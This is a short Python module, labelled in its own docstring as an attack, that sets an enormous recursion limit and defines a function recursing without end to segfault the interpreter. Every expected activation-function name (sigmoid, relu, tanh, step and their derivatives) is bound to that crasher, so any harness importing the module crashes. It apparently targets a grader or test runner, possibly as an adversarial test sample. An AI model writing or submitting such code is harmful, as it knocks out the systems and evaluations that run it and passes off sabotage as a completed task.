"""Attack: raise the recursion limit and recurse until the interpreter segfaults."""
import sys

sys.setrecursionlimit(10**7)


def _deep(n):
    return _deep(n + 1) + 1


def _crash(z):
    return _deep(0)


sigmoid = sigmoid_derivative = relu = relu_derivative = tanh = tanh_derivative = step = _crash
